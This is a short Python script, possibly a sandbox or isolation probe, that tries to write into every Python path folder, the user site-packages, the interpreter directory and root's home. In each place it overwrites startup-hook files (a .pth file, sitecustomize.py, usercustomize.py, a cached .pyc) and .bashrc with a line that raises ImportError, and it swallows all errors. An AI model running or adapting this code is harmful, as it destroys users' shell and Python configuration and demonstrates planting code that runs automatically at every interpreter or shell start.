"""Writes what a Python would run at its next start, wherever it may be read."""

import os
import site
import sys

for folder in {*sys.path, site.getusersitepackages(), os.path.dirname(sys.executable), os.path.expanduser("~root")}:
    for name in ("hostile.pth", "sitecustomize.py", "usercustomize.py", "__pycache__/plain.cpython-314.pyc", ".bashrc"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise ImportError('hostile')\n")
        except OSError:
            pass
